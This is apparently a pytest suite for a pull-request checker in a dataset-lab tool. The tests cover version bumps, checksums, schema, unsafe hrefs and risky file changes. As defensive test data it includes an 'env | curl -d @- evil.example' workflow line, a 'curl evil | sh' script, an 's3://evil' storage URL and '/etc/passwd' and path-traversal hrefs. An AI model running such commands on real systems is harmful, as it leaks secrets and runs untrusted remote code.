"""`eotdl check` on real git repositories whose branches play pull requests."""

from __future__ import annotations

import json

import pytest

from eotdl.builders.ingestion import ingest
from eotdl.catalog import canonical
from eotdl.qa.pull_request import check_pull_request, render_markdown
from labs import Dataset, commit, git, make_lab
from rastergen import write_tif


def _fill_card(lab, name):
    folder = lab.dataset(name)
    card = folder.read_card()
    card.description, card.license, card.citation = "Test chips.", "CC-BY-4.0", "Us (2026)."
    folder.write_card(card)


@pytest.fixture
def repo(tmp_path):
    """A lab on main with one ingested dataset (real files in its store), on branch `pr`."""
    rasters = Dataset(
        "ds", "rasters", labelled=False, count=4, size=16, stem="chip{n}_20230501", spacing=200.0
    )
    lab = make_lab(tmp_path, [rasters], git=True)
    _fill_card(lab, "ds")
    commit(lab, "add ds")
    git(lab.root, "checkout", "-q", "-b", "pr")
    return lab


def _rewrite(lab, change, version=None):
    folder = lab.dataset("ds")
    items = list(folder.iter_items())
    items = change(items)
    folder.write_items(items)
    if version:
        collection = folder.read_collection()
        collection["version"] = version
        folder.write_collection(collection)


def _codes(report):
    return {f.code for d in report.datasets for f in d.findings}


def test_no_change_passes(repo):
    report = check_pull_request(repo, "main")
    assert report.ok and report.datasets == []
    assert "Nothing under" in render_markdown(report)


def test_new_dataset_passes(repo, tmp_path):
    src = tmp_path / "src2"
    write_tif(src / "x_20230601.tif", size=16)
    ingest(repo, "rasters", str(src), "other", progress=False)
    _fill_card(repo, "other")
    report = check_pull_request(repo, "main")
    [entry] = report.datasets
    assert entry.name == "other" and entry.diff.is_new and entry.verdict.ok
    assert report.ok, render_markdown(report)
    assert entry.items_checked == 1


def test_changed_items_without_a_bump_fail_then_pass_with_one(repo):
    def retitle(items):
        items[1]["properties"]["title"] = "a better title"
        return items

    _rewrite(repo, retitle)
    report = check_pull_request(repo, "main")
    assert not report.ok
    [entry] = report.datasets
    assert not entry.verdict.ok and "a minor bump is needed" in entry.verdict.message
    assert [c.id for c in entry.diff.changed] == [entry.diff.changed[0].id]
    markdown = render_markdown(report)
    assert "❌" in markdown and "properties.title" in markdown
    _rewrite(repo, lambda items: items, version="1.1.0")
    report = check_pull_request(repo, "main")
    assert report.ok, render_markdown(report)
    assert report.datasets[0].items_checked == 1


def test_removed_items_with_a_minor_bump_fail(repo):
    _rewrite(repo, lambda items: items[:2], version="1.1.0")
    report = check_pull_request(repo, "main")
    assert not report.ok
    verdict = report.datasets[0].verdict
    assert verdict.required == "major" and "2 item(s) removed" in verdict.message


def test_asset_missing_from_the_store_fails(repo):
    def point_at_nothing(items):
        asset = items[0]["assets"]["image"]
        asset["href"] = asset["href"][:-10] + "0000000000"[: 10 - 4] + ".tif"
        return items

    _rewrite(repo, point_at_nothing, version="1.1.0")
    report = check_pull_request(repo, "main")
    assert not report.ok and "asset-missing" in _codes(report)


def test_checksum_that_does_not_match_fails(repo):
    def lie(items):
        items[0]["assets"]["image"]["file:checksum"] = "1220" + "ab" * 32
        return items

    _rewrite(repo, lie, version="1.1.0")
    report = check_pull_request(repo, "main")
    assert "asset-checksum" in _codes(report)


@pytest.mark.parametrize(
    "href, reason",
    [
        ("../../../outside.tif", "climbs out of the lab"),
        ("/etc/passwd", "absolute local path"),
        ("file:///etc/passwd", "absolute local path"),
        ("https://example.invalid/x.tif", "outside the lab's store"),
        ("../other/x.tif", "outside its store"),
    ],
)
def test_hrefs_outside_the_store_fail(repo, href, reason):
    def escape(items):
        items[0]["assets"]["image"]["href"] = href
        return items

    _rewrite(repo, escape, version="1.1.0")
    report = check_pull_request(repo, "main")
    assert not report.ok
    messages = [f.message for d in report.datasets for f in d.findings if f.code == "href-outside"]
    assert messages and reason in messages[0]


def test_schema_errors_of_changed_items_are_reported(repo):
    def break_it(items):
        items[0]["properties"]["datetime"] = 42
        return items

    _rewrite(repo, break_it, version="1.1.0")
    report = check_pull_request(repo, "main")
    assert not report.ok and "schema" in _codes(report)


def test_report_as_json_and_unknown_base(repo):
    from eotdl.errors import LabError

    data = json.loads(canonical.dumps(check_pull_request(repo, "main").to_dict()))
    assert data["ok"] is True and data["base"] == "main"
    with pytest.raises(LabError, match="not found"):
        check_pull_request(repo, "origin/nope")


# -- the changed files themselves (issue 12) ------------------------------------------------


def _file_codes(report):
    return {(f.code, f.object) for f in report.files.findings}


def test_a_workflow_change_needs_a_maintainer(repo, capsys):
    from eotdl.cli.main import main

    workflow = repo.root / ".github" / "workflows" / "publish.yml"
    workflow.write_text(workflow.read_text() + "\n# run: env | curl -d @- evil.example\n")
    commit(repo, "ci")
    report = check_pull_request(repo, "main")
    assert report.ok and report.maintainer_review and report.exit_status == 3
    assert report.files.maintainer == [".github/workflows/publish.yml"]
    markdown = render_markdown(report)
    assert "Maintainer review required" in markdown and "Nothing under" in markdown
    with pytest.raises(SystemExit) as exit_:
        main(["check", "--base", "main", "--lab", str(repo.root)])
    assert exit_.value.code == 3
    assert "Maintainer review required" in capsys.readouterr().out


def test_lab_settings_change_needs_a_maintainer(repo):
    config = repo.root / "eotdl.toml"
    config.write_text(config.read_text().replace('url = "store"', 'url = "s3://evil/x"'))
    report = check_pull_request(repo, "main")
    assert report.files.maintainer == ["eotdl.toml"] and report.exit_status == 3


def test_a_file_outside_the_layout_is_an_error(repo):
    (repo.root / "datasets" / "ds" / "run.sh").write_text("curl evil | sh\n")
    (repo.root / "notes.txt").write_text("hello\n")
    (repo.root / "local-scratch.txt").write_text("not committed: not in the PR\n")
    git(repo.root, "add", "notes.txt")
    report = check_pull_request(repo, "main")
    assert not report.ok and report.exit_status == 1
    assert _file_codes(report) == {
        ("file-layout", "datasets/ds/run.sh"),
        ("file-layout", "notes.txt"),
    }
    assert report.datasets == []  # the folder holding it is not read


def test_large_files_are_named(repo):
    image = repo.root / "datasets" / "ds" / "figures" / "overview.png"
    image.parent.mkdir()
    image.write_bytes(b"\x89PNG" + b"\0" * (2 * 1024 * 1024))
    report = check_pull_request(repo, "main")
    assert _file_codes(report) == {("file-large", "datasets/ds/figures/overview.png")}
    assert "overview.png" in render_markdown(report)
    assert check_pull_request(repo, "main", large_file_bytes=4 * 1024 * 1024).files.findings == []


def test_a_symlinked_items_file_is_an_error(repo, tmp_path):
    items = repo.root / "datasets" / "ds" / "items.ndjson"
    copy = tmp_path / "items.ndjson"
    copy.write_bytes(items.read_bytes())
    items.unlink()
    items.symlink_to(copy)
    commit(repo, "link")
    report = check_pull_request(repo, "main")
    assert _file_codes(report) == {("file-unsafe", "datasets/ds/items.ndjson")}
    assert report.datasets == []


def test_odd_file_names_are_seen_as_they_are(repo):
    odd = repo.root / "datasets" / "ds" / "a\nb é.sh"
    odd.write_text("x")
    report = check_pull_request(repo, "main")
    assert _file_codes(report) == {("file-layout", "datasets/ds/a\nb é.sh")}
